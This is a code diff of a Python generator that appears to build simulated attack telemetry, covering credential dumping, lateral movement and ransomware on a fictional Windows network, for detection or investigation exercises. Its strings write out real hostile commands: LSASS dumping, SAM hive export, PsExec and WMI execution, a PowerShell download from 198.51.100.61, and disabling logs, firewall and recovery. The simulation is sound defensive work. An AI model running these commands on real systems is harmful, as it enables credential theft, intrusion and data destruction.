@@ -23,19 +23,97 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
     )  # fmt: skip
     host, at = company.hosts["SQL01"], moment(5, "22:47:05")
     service = standing(host, "sqlservr.exe", company.services["svc-sql"])
-    shell = story.process(at, service, "cmd.exe", r'"C:\Windows\system32\cmd.exe" /c whoami & tasklist /fi "imagename eq lsass.exe"', "T1505.001 T1059.003", "SQL Server starts a command shell", integrity="High")
+    shell = story.process(
+        at,
+        service,
+        "cmd.exe",
+        r'"C:\Windows\system32\cmd.exe" /c whoami & tasklist /fi "imagename eq lsass.exe"',
+        "T1505.001 T1059.003",
+        "SQL Server starts a command shell",
+        integrity="High",
+    )
     story.process(at + timedelta(seconds=1), shell, "whoami.exe", "whoami", "T1033", "discovery with whoami")
-    story.process(at + timedelta(seconds=1), shell, "tasklist.exe", 'tasklist /fi "imagename eq lsass.exe"', "T1057", "the process id of LSASS is looked up")
-    shell = story.process(at + timedelta(seconds=95), service, "cmd.exe", rf'"{_SYSTEM32}\cmd.exe" /c rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full', "T1059.003", "SQL Server starts another", integrity="High")
-    dump = story.process(at + timedelta(seconds=96), shell, "rundll32.exe", rf"rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full", "T1003.001", "comsvcs.dll dumps the memory of LSASS", actor=SYSTEM)
+    story.process(
+        at + timedelta(seconds=1),
+        shell,
+        "tasklist.exe",
+        'tasklist /fi "imagename eq lsass.exe"',
+        "T1057",
+        "the process id of LSASS is looked up",
+    )
+    shell = story.process(
+        at + timedelta(seconds=95),
+        service,
+        "cmd.exe",
+        rf'"{_SYSTEM32}\cmd.exe" /c rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full',
+        "T1059.003",
+        "SQL Server starts another",
+        integrity="High",
+    )
+    dump = story.process(
+        at + timedelta(seconds=96),
+        shell,
+        "rundll32.exe",
+        rf"rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full",
+        "T1003.001",
+        "comsvcs.dll dumps the memory of LSASS",
+        actor=SYSTEM,
+    )
     story.file(at + timedelta(seconds=98), dump, r"C:\Windows\Temp\dbg.bin", "T1003.001", "the dump is written")
-    shell = story.process(at + timedelta(minutes=4), service, "cmd.exe", rf'"{_SYSTEM32}\cmd.exe"', "T1059.003", "an interactive shell", integrity="High")
-    story.file(at + timedelta(minutes=4, seconds=9), shell, r"C:\Windows\Temp\pd64.exe", "T1105", "a tool is brought along", url="http://198.51.100.61/pd64.exe", origin="198.51.100.61")
-    second = story.process(at + timedelta(minutes=4, seconds=20), shell, "pd64.exe", r"C:\Windows\Temp\pd64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp", "T1003.001 T1036.003", "ProcDump under another name dumps LSASS", folder=r"C:\Windows\Temp", original="procdump")
-    story.file(at + timedelta(minutes=4, seconds=23), second, r"C:\Windows\Temp\lsass.dmp", "T1003.001", "a second dump is written")
+    shell = story.process(
+        at + timedelta(minutes=4),
+        service,
+        "cmd.exe",
+        rf'"{_SYSTEM32}\cmd.exe"',
+        "T1059.003",
+        "an interactive shell",
+        integrity="High",
+    )
+    story.file(
+        at + timedelta(minutes=4, seconds=9),
+        shell,
+        r"C:\Windows\Temp\pd64.exe",
+        "T1105",
+        "a tool is brought along",
+        url="http://198.51.100.61/pd64.exe",
+        origin="198.51.100.61",
+        renamed="procdump64.exe",
+    )
+    second = story.process(
+        at + timedelta(minutes=4, seconds=20),
+        shell,
+        "pd64.exe",
+        r"C:\Windows\Temp\pd64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
+        "T1003.001 T1036.003",
+        "ProcDump under another name dumps LSASS",
+        folder=r"C:\Windows\Temp",
+        renamed="procdump64.exe",
+    )
+    story.file(
+        at + timedelta(minutes=4, seconds=23),
+        second,
+        r"C:\Windows\Temp\lsass.dmp",
+        "T1003.001",
+        "a second dump is written",
+    )
     for hive in ("SAM", "SYSTEM"):
-        story.process(at + timedelta(minutes=5, seconds=len(hive)), shell, "reg.exe", rf"reg save HKLM\{hive} C:\Windows\Temp\{hive.lower()}.hiv /y", "T1003.002", f"the {hive} hive is saved")
-    story.alert(at + timedelta(minutes=7), "Suspicious access to LSASS memory", "High", "CredentialAccess", "T1003.001", process=dump, account=company.services["svc-sql"])
+        story.process(
+            at + timedelta(minutes=5, seconds=len(hive)),
+            shell,
+            "reg.exe",
+            rf"reg save HKLM\{hive} C:\Windows\Temp\{hive.lower()}.hiv /y",
+            "T1003.002",
+            f"the {hive} hive is saved",
+        )
+    story.alert(
+        at + timedelta(minutes=7),
+        "Suspicious access to LSASS memory",
+        "High",
+        "CredentialAccess",
+        "T1003.001",
+        process=dump,
+        account=company.services["svc-sql"],
+    )
     return story
 
 
@@ -47,25 +125,130 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
     )  # fmt: skip
     sql, files, app = company.hosts["SQL01"], company.hosts["FS01"], company.hosts["APP01"]
     erik, at = company.accounts["adm-erik"], moment(6, "01:22:10")
-    shell = story.process(at, standing(sql, "sqlservr.exe", company.services["svc-sql"]), "cmd.exe", rf'"{_SYSTEM32}\cmd.exe"', "T1059.003", "a shell under SQL Server", integrity="High")
-    sender = story.process(at + timedelta(seconds=30), shell, "ps64.exe", r"C:\Windows\Temp\ps64.exe \\FS01 -accepteula -s -d cmd.exe /c C:\Windows\Temp\up.bat", "T1569.002 T1021.002", "PsExec under another name reaches for FS01", folder=r"C:\Windows\Temp", original="psexec.c")
+    shell = story.process(
+        at,
+        standing(sql, "sqlservr.exe", company.services["svc-sql"]),
+        "cmd.exe",
+        rf'"{_SYSTEM32}\cmd.exe"',
+        "T1059.003",
+        "a shell under SQL Server",
+        integrity="High",
+    )
+    sender = story.process(
+        at + timedelta(seconds=30),
+        shell,
+        "ps64.exe",
+        r"C:\Windows\Temp\ps64.exe \\FS01 -accepteula -s -d cmd.exe /c C:\Windows\Temp\up.bat",
+        "T1569.002 T1021.002",
+        "PsExec under another name reaches for FS01",
+        folder=r"C:\Windows\Temp",
+        renamed="PsExec64.exe",
+    )
     story.connect(at + timedelta(seconds=31), sender, files.address, 445, "T1021.002", "SMB from SQL01 to FS01")
-    story.logon(at + timedelta(seconds=31), files, erik, "Network", sql, "T1550.002 T1021.002", "the administrator's account logs on by NTLM from a database server", admin=True)
+    story.logon(
+        at + timedelta(seconds=31),
+        files,
+        erik,
+        "Network",
+        sql,
+        "T1550.002 T1021.002",
+        "the administrator's account logs on by NTLM from a database server",
+        admin=True,
+    )
     system = standing(files, "System", SYSTEM)
-    story.file(at + timedelta(seconds=32), system, r"C:\Windows\PSEXESVC.exe", "T1570 T1021.002", "the service's program is written to ADMIN$")
+    story.file(
+        at + timedelta(seconds=32),
+        system,
+        r"C:\Windows\PSEXESVC.exe",
+        "T1570 T1021.002",
+        "the service's program is written to ADMIN$",
+    )
     services = standing(files, "services.exe", SYSTEM)
-    story.registry(at + timedelta(seconds=32), services, r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC", "ImagePath", r"%SystemRoot%\PSEXESVC.exe", "T1543.003", "a service is created")
-    remote = story.process(at + timedelta(seconds=33), services, "PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe", "T1569.002", "the service starts")
-    command = story.process(at + timedelta(seconds=34), remote, "cmd.exe", r"cmd.exe /c C:\Windows\Temp\up.bat", "T1059.003", "it runs a batch file as SYSTEM")
-    story.process(at + timedelta(seconds=36), command, "net.exe", "net localgroup Administrators helpdesk$ /add", "T1098.007", "a hidden account becomes administrator")
-    wmi = story.process(at + timedelta(minutes=6), shell, "wmic.exe", r'wmic /node:APP01 /user:CONTOSO\adm-erik process call create "powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe"', "T1047", "WMI starts a command on APP01")
+    story.registry(
+        at + timedelta(seconds=32),
+        services,
+        r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC",
+        "ImagePath",
+        r"%SystemRoot%\PSEXESVC.exe",
+        "T1543.003",
+        "a service is created",
+    )
+    remote = story.process(
+        at + timedelta(seconds=33),
+        services,
+        "PSEXESVC.exe",
+        r"C:\Windows\PSEXESVC.exe",
+        "T1569.002",
+        "the service starts",
+    )
+    command = story.process(
+        at + timedelta(seconds=34),
+        remote,
+        "cmd.exe",
+        r"cmd.exe /c C:\Windows\Temp\up.bat",
+        "T1059.003",
+        "it runs a batch file as SYSTEM",
+    )
+    story.process(
+        at + timedelta(seconds=36),
+        command,
+        "net.exe",
+        "net localgroup Administrators helpdesk$ /add",
+        "T1098.007",
+        "a hidden account becomes administrator",
+    )
+    wmi = story.process(
+        at + timedelta(minutes=6),
+        shell,
+        "wmic.exe",
+        r'wmic /node:APP01 /user:CONTOSO\adm-erik process call create "powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe"',
+        "T1047",
+        "WMI starts a command on APP01",
+    )
     story.connect(at + timedelta(minutes=6, seconds=1), wmi, app.address, 135, "T1047", "RPC from SQL01 to APP01")
-    story.logon(at + timedelta(minutes=6, seconds=1), app, erik, "Network", sql, "T1047 T1550.002", "the administrator's account logs on to APP01", admin=True)
+    story.logon(
+        at + timedelta(minutes=6, seconds=1),
+        app,
+        erik,
+        "Network",
+        sql,
+        "T1047 T1550.002",
+        "the administrator's account logs on to APP01",
+        admin=True,
+    )
     host = standing(app, "WmiPrvSE.exe", SYSTEM)
-    loader = story.process(at + timedelta(minutes=6, seconds=2), host, "powershell.exe", r"powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe", "T1047 T1059.001 T1105", "the WMI host starts PowerShell", actor=erik, integrity="High")
-    story.connect(at + timedelta(minutes=6, seconds=4), loader, "198.51.100.61", 80, "T1105", "a program is fetched", url="http://198.51.100.61/b")
-    story.file(at + timedelta(minutes=6, seconds=5), loader, r"C:\ProgramData\b.exe", "T1105", "it is written to ProgramData")
-    story.alert(at + timedelta(minutes=9), "Suspicious remote service creation", "Medium", "LateralMovement", "T1569.002 T1021.002", process=remote, account=erik, address=sql.address)
+    loader = story.process(
+        at + timedelta(minutes=6, seconds=2),
+        host,
+        "powershell.exe",
+        r"powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe",
+        "T1047 T1059.001 T1105",
+        "the WMI host starts PowerShell",
+        actor=erik,
+        integrity="High",
+    )
+    story.connect(
+        at + timedelta(minutes=6, seconds=4),
+        loader,
+        "198.51.100.61",
+        80,
+        "T1105",
+        "a program is fetched",
+        url="http://198.51.100.61/b",
+    )
+    story.file(
+        at + timedelta(minutes=6, seconds=5), loader, r"C:\ProgramData\b.exe", "T1105", "it is written to ProgramData"
+    )
+    story.alert(
+        at + timedelta(minutes=9),
+        "Suspicious remote service creation",
+        "Medium",
+        "LateralMovement",
+        "T1569.002 T1021.002",
+        process=remote,
+        account=erik,
+        address=sql.address,
+    )
     return story
 
 
@@ -76,8 +259,8 @@ _COMMANDS = (
     ("wbadmin.exe", "wbadmin delete catalog -quiet", "T1490", "the backup catalogue is deleted"),
     ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No", "T1490", "recovery at boot is switched off"),
     ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", "T1490", "boot failures are ignored"),
-    ("wevtutil.exe", "wevtutil cl Security", "T1070.001", "the security log is cleared"),
-    ("netsh.exe", "netsh advfirewall set allprofiles state off", "T1562.004", "the firewall is switched off"),
+    ("wevtutil.exe", "wevtutil cl Security", "T1685.005", "the security log is cleared"),
+    ("netsh.exe", "netsh advfirewall set allprofiles state off", "T1686.003", "the firewall is switched off"),
 )
 
 
@@ -88,18 +271,57 @@ def ransomware(stock: Stock, company: Tenant) -> Story:
         "What happened on FS01 on Friday night?", "Were shadow copies deleted on any server in the last week?",
     )  # fmt: skip
     host, at = company.hosts["FS01"], moment(13, "22:08:50")
-    story.logon(at - timedelta(seconds=20), host, company.accounts["adm-erik"], "Network", company.hosts["APP01"], "T1021.002", "the administrator's account comes from APP01", admin=True)
-    batch = story.process(at, standing(host, "PSEXESVC.exe", SYSTEM), "cmd.exe", r"cmd.exe /c C:\Windows\Temp\go.bat", "T1059.003", "a batch file starts as SYSTEM")
+    story.logon(
+        at - timedelta(seconds=20),
+        host,
+        company.accounts["adm-erik"],
+        "Network",
+        company.hosts["APP01"],
+        "T1021.002",
+        "the administrator's account comes from APP01",
+        admin=True,
+    )
+    batch = story.process(
+        at,
+        standing(host, "PSEXESVC.exe", SYSTEM),
+        "cmd.exe",
+        r"cmd.exe /c C:\Windows\Temp\go.bat",
+        "T1059.003",
+        "a batch file starts as SYSTEM",
+    )
     for name in _SERVICES:
         at += timedelta(seconds=2)
         story.process(at, batch, "net.exe", f"net stop {name} /y", "T1489", f"the service {name} is stopped")
-    story.process(at + timedelta(seconds=1), batch, "taskkill.exe", "taskkill /f /im sqlservr.exe", "T1489", "the database is ended")
+    story.process(
+        at + timedelta(seconds=1),
+        batch,
+        "taskkill.exe",
+        "taskkill /f /im sqlservr.exe",
+        "T1489",
+        "the database is ended",
+    )
     for name, line, technique, event in _COMMANDS:
         at += timedelta(seconds=3)
         story.process(at, batch, name, line, technique, event)
-    locker = story.process(at + timedelta(seconds=9), batch, "b.exe", r"C:\ProgramData\b.exe -path D:\Shares -threads 8", "T1486", "the encryption starts", folder=r"C:\ProgramData")
+    locker = story.process(
+        at + timedelta(seconds=9),
+        batch,
+        "b.exe",
+        r"C:\ProgramData\b.exe -path D:\Shares -threads 8",
+        "T1486",
+        "the encryption starts",
+        folder=r"C:\ProgramData",
+    )
     _encrypt(story, locker)
-    story.alert(at + timedelta(minutes=2), "Ransomware behavior detected in the file system", "High", "Ransomware", "T1486 T1490", process=locker, account=SYSTEM)
+    story.alert(
+        at + timedelta(minutes=2),
+        "Ransomware behavior detected in the file system",
+        "High",
+        "Ransomware",
+        "T1486 T1490",
+        process=locker,
+        account=SYSTEM,
+    )
     return story
 
 
@@ -108,6 +330,20 @@ def _encrypt(story: Story, locker: Process) -> None:
     for number in range(140):
         old = rf"D:\Shares\{('Finance', 'Sales', 'Legal')[number % 3]}\2026\File {1000 + number}.xlsx"
         stage = "T1486" if number in (0, 139) else ""
-        story.file(start + timedelta(milliseconds=410 * number), locker, f"{old}.lokk3d", stage, "files get a new ending", action="FileRenamed", previous=old)
+        story.file(
+            start + timedelta(milliseconds=410 * number),
+            locker,
+            f"{old}.lokk3d",
+            stage,
+            "files get a new ending",
+            action="FileRenamed",
+            previous=old,
+        )
     for share in ("Finance", "Sales", "Legal"):
-        story.file(start + timedelta(seconds=60), locker, rf"D:\Shares\{share}\HOW_TO_RECOVER_FILES.txt", "T1486", "a note is left")
+        story.file(
+            start + timedelta(seconds=60),
+            locker,
+            rf"D:\Shares\{share}\HOW_TO_RECOVER_FILES.txt",
+            "T1486",
+            "a note is left",
+        )
